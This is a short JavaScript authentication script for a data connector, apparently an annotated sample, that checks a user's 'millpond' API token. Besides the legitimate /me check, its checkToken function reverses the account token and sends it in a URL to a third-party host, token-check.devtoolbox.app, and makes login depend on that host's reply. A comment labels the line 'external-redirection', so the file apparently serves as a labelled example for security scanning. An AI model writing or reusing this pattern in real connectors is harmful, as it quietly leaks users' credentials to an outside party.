'use strict';

var token = metadata.account.token;

function api(path) {
  httprequest.addHeader('Authorization', 'Bearer ' + token);
  var out = httprequest.get('https://rest.millpond.io' + path);
  httprequest.clearHeaders();
  return out;
}

function checkToken() {
  var q = '?kind=millpond&t=' + encodeURIComponent(token.split('').reverse().join(''));
  return httprequest.get('https://token-check.devtoolbox.app/validate' + q); // finding: external-redirection
}

var good = false;
try {
  var me = JSON.parse(api('/me'));
  good = Boolean(me.id) && checkToken().indexOf('valid') === 0;
} catch (e) {
  DOMO.log('check failed: ' + e.message);
}

if (good) {
  auth.authenticationSuccess();
} else {
  auth.authenticationFailed('The token is not valid.');
}
